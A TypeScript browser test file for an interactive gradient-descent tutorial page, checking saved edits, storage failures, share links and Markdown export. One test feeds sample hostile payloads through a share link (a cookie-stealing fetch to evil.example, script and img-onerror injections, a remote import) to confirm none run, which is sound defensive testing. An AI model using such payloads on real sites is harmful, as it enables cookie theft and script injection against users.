import {readFileSync} from "node:fs";
import type {BrowserContextOptions, Locator, Page} from "playwright-core";
import {describe, expect, test} from "vitest";
import type {KeptCell} from "../../src/live/kept.js";
import {packHash} from "../../src/live/shareLink.js";
import {display, drive, said, tried} from "./liveDriver.js";
import {cellsHaveRun, useBrowser} from "./visit.js";

const visit = useBrowser();
const poll = <T>(ask: () => Promise<T>) => expect.poll(ask, {timeout: 20_000});
const start = "const learningRate = 0.1;";
const clipboard = {permissions: ["clipboard-read", "clipboard-write"]};

/** A new visit of the page, with the hands of a reader. */
async function open(
  hash = "",
  options: BrowserContextOptions = {},
  prepare: (page: Page) => Promise<unknown> = async () => {}
) {
  const {page, faults} = await visit(`en/${tried}${hash}`, options, prepare);
  return {page, faults, ...hands(page)};
}

/** Texts of code, without the line end that the page's own have. */
const codes = async (pre: Locator): Promise<string[]> =>
  (await pre.allInnerTexts()).map((text) => text.trimEnd());

const hands = (page: Page) => ({
  ...drive(page),
  /** How the first step of the page's descent goes: 100 at first, then by the square of 1 − 2 · learning rate. */
  second: async () => Number((await display(page.locator(".live-cell").nth(1))).split(" → ")[1]),
  question: page.locator(".live-question"),
  answer: (name: string) => page.locator(`.live-question [data-name=${name}]`).click(),
  copied: (): Promise<string> => page.evaluate("navigator.clipboard.readText()"),
  kept: (): Promise<string[]> => page.evaluate("Object.values(localStorage)")
});

const first = (code: string | null, rest: Partial<KeptCell> = {}): KeptCell => ({
  original: start,
  at: 0,
  code,
  waiting: false,
  below: [],
  ...rest
});

describe("edits survive", () => {
  test("a reload, and the way to the other language: what had run runs, what waited waits", async () => {
    const {page, faults, cell, run, add, write, second, own} = await open();
    await run(cell(0), "const learningRate = 0.4;");
    await poll(second).toBe(4);
    await add(cell(1), "display(learningRate * 10);");
    await write(cell(2), "const steps = 1;");
    await page.reload(); // at once: nothing waits for a pause in the typing
    for (const edited of [
      ["Edited", "Not run yet"],
      ["已修改", "尚未运行"]
    ]) {
      await cellsHaveRun(page);
      await poll(second).toBe(4);
      await poll(() => display(own(0))).toBe("4");
      expect((await display(cell(1))).split(" → ")).toHaveLength(6);
      expect(await cell(0).locator("> .live-tools .live-state").innerText()).toBe(edited[0]);
      expect(await cell(2).locator("> .live-tools .live-state").innerText()).toBe(edited[1]);
      expect(await cell(2).locator(".live-panel pre").innerText()).toBe("const steps = 1;");
      await page.goto(page.url().replace("/en/", "/zh/"));
    }
    expect(faults).toEqual([]);
  });

  test("a change of the page: the reader is told, sees both, and chooses", async () => {
    const old = first("const learningRate = 0.3;", {original: "const learningRate = 0.05;"});
    const lost = first("display('lost' + learningRate);", {original: "gone", at: 9});
    const taken = first("display('taken');", {original: "gone, too", at: 7, code: "display('taken');"});
    const key = `descent:edits:/some/descent/${tried.replace(".html", "")}`;
    const {page, cell, press, second, own} = await open("", {}, (page) =>
      page.addInitScript(
        `localStorage.getItem("laid") ?? (localStorage.setItem("laid", 1), localStorage.setItem(${JSON.stringify(key)}, ${JSON.stringify(
          JSON.stringify({version: 1, cells: [old, lost, taken]})
        )}))`
      )
    );
    await poll(() => said(cell(0), "status")).toContain("has changed since you edited it");
    expect(await codes(cell(0).locator("pre:visible"))).toEqual([start, "const learningRate = 0.3;"]);
    await poll(second).toBe(64);
    await page.reload(); // who does not choose is asked again
    await poll(() => said(cell(0), "status")).toContain("has changed since you edited it");
    await press(cell(0), "run");
    await poll(second).toBe(16);
    expect(await said(cell(0), "status")).toBe("");
    await page.reload();
    await cellsHaveRun(page);
    await poll(second).toBe(16);
    await press(cell(0), "reset");
    await poll(second).toBe(64);
    expect(await own(0).count()).toBe(0);
  });

  test("who takes the page's own text back has no edit there any more", async () => {
    const {cell, press, page} = await open(await packHash([first("display(3);", {original: "gone"})]));
    await hands(page).answer("run-link");
    await poll(() => said(cell(0), "status")).toContain("has changed since you edited it");
    await press(cell(0), "reset");
    expect(await codes(cell(0).locator("pre:visible"))).toEqual([start]);
    expect(await page.locator(".live-menu-button").isVisible()).toBe(false);
  });

  test.each([
    [
      "full",
      "Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); }",
      "The browser’s storage is full"
    ],
    [
      "forbidden",
      "Object.defineProperty(window, 'localStorage', {get() { throw new DOMException('no', 'SecurityError'); }})",
      "This browser keeps nothing for this page"
    ]
  ])("no longer than the visit where storage is %s: all works, and says so", async (_, script, message) => {
    const {page, faults, cell, run, add, press, second} = await open("", {}, (page) =>
      page.addInitScript(script)
    );
    await run(cell(0), "const learningRate = 0.4;");
    await poll(second).toBe(4);
    await poll(() => said(cell(0), "status")).toContain(message);
    const own = await add(cell(0), "display(learningRate * 10);");
    await poll(() => display(own)).toBe("4");
    await press(cell(0), "reset");
    await poll(second).toBe(64);
    await page.reload();
    await poll(second).toBe(64);
    expect(faults).toEqual([]);
  });
});

describe("sharing", () => {
  test("a link carries a cell, or the page; whoever opens it sees the code, and it waits for them", async () => {
    const {page, cell, run, add, press, copied} = await open("", clipboard);
    await run(cell(0), "const learningRate = 0.4;");
    await add(cell(1), "display(learningRate * 10);");
    await press(cell(0), "copy-link");
    await poll(() => said(cell(0), "status")).toBe("Copied.");
    const ofCell = await copied();
    await page.locator(".live-menu-button").click();
    await page.locator("#live-menu [data-name=copy-link]").click();
    await poll(() => page.locator("#live-menu [role=status]").innerText()).toBe("Copied.");
    const ofPage = await copied();
    const hash = (link: string): string => link.slice(link.indexOf("#"));
    expect(ofCell.length).toBeLessThan(ofPage.length);

    const one = await open(hash(ofCell));
    await poll(() => codes(one.question.locator("pre"))).toEqual(["const learningRate = 0.4;"]);
    const other = await open(hash(ofPage));
    await poll(() => codes(other.question.locator("pre"))).toEqual([
      "const learningRate = 0.4;",
      "display(learningRate * 10);"
    ]);
    expect(await other.question.locator("h3").allInnerTexts()).toEqual([
      "In place of cell 1",
      "A new cell below cell 2"
    ]);
    await poll(other.second).toBe(64);
    expect([await other.kept(), await other.own(0).count()]).toEqual([[], 0]);
    await other.answer("run-link");
    await poll(other.second).toBe(4);
    await poll(() => display(other.own(0))).toBe("4");
    expect(new URL(other.page.url()).hash).toBe("");
    expect((await other.kept()).join()).toContain("learningRate = 0.4");
    expect(other.faults).toEqual([]);
  });

  test("code from a link that is thrown away has never run and is not kept; one's own edits stay until one agrees", async () => {
    const {page, cell, run, second, question, answer, kept} = await open();
    await run(cell(0), "const learningRate = 0.3;");
    await poll(second).toBe(16);
    const link = await packHash([first("const learningRate = 0.4;")]);
    await page.evaluate(`location.hash = ${JSON.stringify(link)}`);
    await poll(() => question.innerText()).toContain("Running it replaces your own edits on this page.");
    await answer("drop-link");
    expect([await second(), new URL(page.url()).hash, await question.count()]).toEqual([16, "", 0]);
    await page.evaluate(`location.hash = ${JSON.stringify(link)}`);
    await answer("run-link");
    await poll(second).toBe(4);
    expect((await kept()).join()).not.toContain("0.3");
  });

  test("a malicious link runs nothing, makes nothing of the page, and asks nothing of any site", async () => {
    const image = `<img src="https://evil.example/x.png" onerror="globalThis.hacked = 1">`;
    const evil = [
      "globalThis.hacked = 1; fetch('https://evil.example/' + document.cookie);",
      `</code></pre><script>globalThis.hacked = 1</script>${image}`,
      "import('https://evil.example/x.js')"
    ];
    const below = evil.map((code) => ({code, waiting: false}));
    const cells = evil.map((code, at) => first(code, {at, below, original: at ? image : start}));
    const {page, faults, question, kept, own} = await open(await packHash(cells));
    await poll(() => question.locator("pre").count()).toBe(12);
    await question.locator(".hljs-string").first().waitFor(); // the colours have been laid on
    expect(await question.locator("pre").allInnerTexts()).toEqual(evil.flatMap((code) => [code, ...evil]));
    expect(await page.locator("main img, .live-question :is(img, script)").count()).toBe(0);
    expect(await page.evaluate("typeof hacked")).toBe("undefined");
    expect([await own(0).count(), await kept(), faults]).toEqual([0, [], []]);
  });

  test("inside another page the code of a link is shown and cannot be run", async () => {
    const {page, second} = await open();
    const link = `${page.url()}${await packHash([first("const learningRate = 0.4;")])}`;
    await page.evaluate(
      `document.body.append(Object.assign(document.createElement("iframe"), {src: ${JSON.stringify(link)}, title: "x"}))`
    );
    const framed = page.frameLocator("iframe").locator(".live-question");
    await poll(() => framed.innerText()).toContain("only when the page is opened by itself");
    expect(await framed.locator("button").allInnerTexts()).toEqual(["Throw it away"]);
    await poll(second).toBe(64);
  });

  test.each([
    ["no code", async () => "#live=AAAA"],
    ["more than it may", () => packHash([first(" ".repeat(2 ** 20))])]
  ])("a link that carries %s is told of", async (_, hash) => {
    const {page, question, answer, second} = await open(await hash());
    await poll(() => question.innerText()).toContain("The link carries code that cannot be read.");
    await poll(second).toBe(64);
    expect(new URL(page.url()).hash).toBe("");
    await answer("fine");
    expect(await question.count()).toBe(0);
  });

  test("a cell as Markdown, and the page's Markdown with the edits in", async () => {
    const {page, cell, run, add, press, copied} = await open("", clipboard);
    await run(cell(0), "const learningRate = 0.4;");
    await press(cell(0), "copy-markdown");
    await poll(copied).toBe("```ts echo\nconst learningRate = 0.4;\n```");
    await add(cell(0), "display(learningRate * 10);");
    await page.locator(".live-menu-button").click();
    const waiting = page.waitForEvent("download");
    await page.locator("#live-menu [data-name=download]").click();
    const download = await waiting;
    expect(download.suggestedFilename()).toBe("how-to.md");
    const source = readFileSync("src/[lang]/how-to.md", "utf8");
    expect(readFileSync(await download.path(), "utf8")).toBe(
      source.replace(
        `\`\`\`ts echo\n${start}\n\`\`\``,
        "```ts echo\nconst learningRate = 0.4;\n```\n\n```ts echo\ndisplay(learningRate * 10);\n```"
      )
    );
  });

  test("where the browser forbids copying, and where the source is gone, that is said", async () => {
    const {page, cell, run, press} = await open("", {}, async (page) => {
      await page.addInitScript("navigator.clipboard.writeText = () => Promise.reject(new Error('no'))");
      await page.route("**/source/*.txt", (route) => route.abort());
    });
    await run(cell(0), "const learningRate = 0.4;");
    await press(cell(0), "copy-link");
    await poll(() => said(cell(0), "status")).toBe("The browser does not let this page copy.");
    await page.locator(".live-menu-button").click();
    await page.locator("#live-menu [data-name=download]").click();
    await poll(() => page.locator("#live-menu [role=status]").innerText()).toContain("could not be fetched");
  });
});
